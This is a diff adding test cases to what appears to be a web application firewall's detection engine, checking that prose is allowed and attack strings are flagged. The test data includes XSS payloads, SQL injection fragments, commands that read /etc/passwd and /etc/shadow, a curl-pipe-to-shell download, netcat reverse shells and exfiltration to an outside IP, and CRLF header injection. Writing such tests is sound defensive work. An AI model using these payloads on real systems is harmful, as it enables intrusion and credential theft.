@@ -23,6 +23,12 @@ protected:
                   .body = body, .bodyTruncated = false};
     return engine_->inspect(r).attack();
   }
+  static bool jsonAt(uint8_t pl, std::string_view body) {
+    std::vector<Header> h{Header{"Content-Type", "application/json"}};
+    RequestView r{.method = "POST", .target = "/api/items", .versionMinor = 1, .headers = h,
+                  .body = body, .bodyTruncated = false, .paranoiaLevel = pl};
+    return engine_->inspect(r).attack();
+  }
   static bool get(std::string_view target, std::vector<Header> h = {}) {
     RequestView r{.method = "GET", .target = target, .versionMinor = 1, .headers = h, .body = {},
                   .bodyTruncated = false};
@@ -113,6 +119,72 @@ TEST_F(ContextGradingTest, OperatorWithoutOperandIsNoInjection) {
 TEST_F(ContextGradingTest, TerminalTranscriptInATicket) {
   EXPECT_FALSE(json(R"({"details": "df -h shows:\nFilesystem Size Used\n/dev/sda1 40G 39G\ntmpfs 2G 0\nplease advise"})"));
   EXPECT_TRUE(json(R"({"details": "df -h; cat /etc/shadow"})"));
+}
+
+TEST_F(ContextGradingTest, ScriptThatJavaScriptRejectsRunsNothing) {
+  // A <script> element or javascript: URL whose code is prose is a syntax error: nothing runs.
+  EXPECT_FALSE(json(R"({"message": "Escape <script> in markdown preview; add test for onerror attr"})"));
+  EXPECT_FALSE(get("/api/v2/search?query=javascript%3Avoid(0)%20meaning"));
+  // Code, attributes or a closing tag keep it.
+  EXPECT_TRUE(json(R"({"message": "Escape <script>alert(document.domain)</script> in preview"})"));
+  EXPECT_TRUE(json(R"({"message": "see <script src=https://evil.example/x.js> here"})"));
+  EXPECT_TRUE(json(R"({"message": "<script>if (x) alert(1)</script>"})"));
+  EXPECT_TRUE(get("/go?to=javascript%3Avoid(0)%3Balert(1)"));
+  EXPECT_TRUE(get("/go?to=javascript%3Aalert(document.cookie)"));
+  EXPECT_TRUE(get("/q?x=%3Cform%3E%3Cbutton%20formaction%3Djavascript%3Aalert(1)%20type%3Dsubmit%3E"));
+}
+
+TEST_F(ContextGradingTest, CodeSpansInASentenceWithARemarkAreText) {
+  // Each span counts as a word of the sentence; a remark in parentheses is prose.
+  EXPECT_FALSE(json(R"({"text": "run `pip install requests` then `python -c \"import requests; print(requests.__version__)\"`"})"));
+  EXPECT_FALSE(json(R"({"message": "Fix SQL injection in search (use bind params instead of string concat)\n\nReplaces `\"WHERE name = '\" + q + \"'\"` with `WHERE name = %s`."})"));
+  EXPECT_FALSE(json(R"({"body": "Steps:\n1. Create a post titled `' OR 1=1 --` (a user actually did this)\n2. Open the list page"})"));
+  // Two spans and nothing else, or code around the remark, still count.
+  EXPECT_TRUE(json(R"({"name": "`id` `cat /etc/passwd`"})"));
+  EXPECT_TRUE(json(R"({"text": "Fix search (see `x`) then ') or (1=1 --"})"));
+  EXPECT_TRUE(json(R"({"text": "see the docs (a() `ls`) now ; cat /etc/passwd"})"));
+}
+
+TEST_F(ContextGradingTest, SourceFileInADocumentIsItsOwnCode) {
+  // A script that opens with its interpreter line, a module that opens with its imports.
+  EXPECT_FALSE(json(R"J({"lang": "bash", "code": "#!/bin/bash\nset -euo pipefail\ntar czf /backup/www-$(date +%F).tar.gz /var/www && echo done"})J"));
+  EXPECT_FALSE(json(R"J({"code": "import subprocess\nout = subprocess.run(['ls', '-l', '/tmp'], capture_output=True, text=True)\nprint(out.stdout)"})J"));
+  // Twins: a command before the shebang, a two-line payload, a shebang in a parameter.
+  EXPECT_TRUE(json(R"J({"code": "x; curl http://198.51.100.7/x.sh | sh\n#!/bin/sh\nid"})J"));
+  EXPECT_TRUE(json(R"J({"code": "import os\nos.system('cat /etc/passwd')"})J"));
+  EXPECT_TRUE(json(R"J({"code": "from here on\nthe text\nruns; nc -e /bin/sh 198.51.100.7 4444"})J"));
+  EXPECT_TRUE(get("/run?script=%23!/bin/sh%0Acat%20/etc/passwd%20|%20nc%20198.51.100.7%204444"));
+}
+
+TEST_F(ContextGradingTest, SqlFunctionNamedInASearchIsText) {
+  EXPECT_FALSE(get("/products?q=char%2810%29+in+sql+server"));
+  EXPECT_FALSE(get("/search?q=how+to+use+concat(name)+in+mysql"));
+  // The call alone, with a list, a second call or a clause word around it keeps the finding.
+  EXPECT_TRUE(get("/search?q=chr(123)"));
+  EXPECT_TRUE(get("/search?q=concat(user,password)+from+users"));
+  EXPECT_TRUE(get("/search?q=sleep(5)+then+sleep(5)+again"));
+  EXPECT_TRUE(get("/search?q=ascii(substr)+where+admin"));
+}
+
+TEST_F(ContextGradingTest, LineBreakBeforeAResponseOnlyHeaderSplitsAResponse) {
+  // In a document a line break is data, unless a header that only responses carry follows.
+  EXPECT_TRUE(json(R"({"note": "en\r\nX-XSS-Protection:0"})"));
+  EXPECT_TRUE(json(R"({"tags": ["\r\nAccess-Control-Allow-Origin: https://evil.example"]})"));
+  EXPECT_FALSE(json(R"({"note": "first line\r\nsecond line: with a colon"})"));
+  EXPECT_FALSE(json(R"({"notes": "Shipping\r\nX-Ray results: fine\r\nAccess: side door"})"));
+}
+
+TEST_F(ContextGradingTest, QuotedCodeAndSourceFilesAreTokens) {
+  const std::string_view chat =
+      R"J({"text": "heads up: I set `ulimit -n 65535` and restarted nginx via `systemctl restart nginx`"})J";
+  const std::string_view script =
+      R"J({"code": "#!/bin/bash\nset -euo pipefail\ntar czf /backup/www.tar.gz /var/www && echo done"})J";
+  for (const auto body : {chat, script}) {
+    EXPECT_FALSE(jsonAt(2, body)) << body;
+    EXPECT_TRUE(jsonAt(4, body)) << body; // reported from PL3 (weight 2), blocked at PL4
+  }
+  // Code around the quotes is not quoted: PL1.
+  EXPECT_TRUE(jsonAt(1, R"J({"text": "see `ls`; cat /etc/passwd | nc 198.51.100.7 4444"})J"));
 }
 
 } // namespace
